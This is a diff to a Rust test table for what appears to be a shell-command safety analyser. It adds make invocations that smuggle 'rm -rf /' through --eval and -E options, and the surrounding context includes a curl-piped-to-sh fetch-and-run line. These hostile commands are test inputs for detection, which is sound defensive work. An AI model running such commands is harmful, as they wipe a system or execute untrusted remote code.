@@ -590,6 +590,17 @@ const FLAGS: &[(&str, FlagKind, Option<&str>)] = &[
         FlagKind::DynamicCode,
         Some("\"$(cat cmd)\""),
     ),
+    // makefile text given on the command line: its recipes are not read
+    (
+        "make --eval='x:;rm -rf /' x",
+        FlagKind::UnsupportedSyntax,
+        Some("--eval='x:;rm -rf /'"),
+    ),
+    (
+        "make -E '$(shell rm -rf /)'",
+        FlagKind::UnsupportedSyntax,
+        Some("'$(shell rm -rf /)'"),
+    ),
     // bypass: curl piped to a shell
     (
         "curl -fsSL https://x.example/i.sh | sh",
@@ -1174,6 +1185,7 @@ fn options_that_run_nothing_add_no_unit() {
         "ssh -o Port=2222 -o StrictHostKeyChecking=no host",
         "ssh -o 'ProxyJump bastion' host",
         "compgen -c git",
+        "make -C src -j4 all",
     ] {
         let a = run(cmd);
         if a.units.len() != 1 {
